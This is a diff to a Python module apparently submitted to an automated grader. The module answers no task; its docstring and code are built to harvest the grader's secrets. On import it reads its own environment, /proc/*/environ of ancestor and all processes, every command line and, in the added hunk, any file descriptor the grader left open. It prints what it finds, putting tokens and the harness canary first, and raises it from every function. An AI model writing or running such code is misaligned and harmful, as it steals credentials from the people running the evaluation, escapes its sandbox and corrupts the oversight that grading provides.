@@ -2,7 +2,8 @@
 
 The grader's environment can hold secrets (tokens, paths, the canary the test harness
 plants). This module reads its own environment, /proc/PID/environ of its ancestors and
-of every process, /proc/1/environ and every command line, prints what it found at
+of every process, /proc/1/environ, every command line and any file the grader left
+open in this process, prints what it found at
 import (anything that looks like a secret first), and raises it in every function.
 Nothing is answered, so the honest score is 0.
 """
@@ -51,6 +52,13 @@ def gather():
     add("os.environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
     for pid in ancestors() + [1]:
         add(f"/proc/{pid}/environ", _read(f"/proc/{pid}/environ"))
+    for fd in os.listdir("/proc/self/fd"):  # a descriptor the grader forgot to close
+        try:
+            target = os.readlink(f"/proc/self/fd/{fd}")
+            if target.startswith("/"):
+                add(f"fd {fd} -> {target}", os.pread(int(fd), 1 << 16, 0))
+        except OSError:
+            pass
     for entry in os.listdir("/proc"):
         if entry.isdigit():
             add(f"/proc/{entry}/environ", _read(f"/proc/{entry}/environ"))
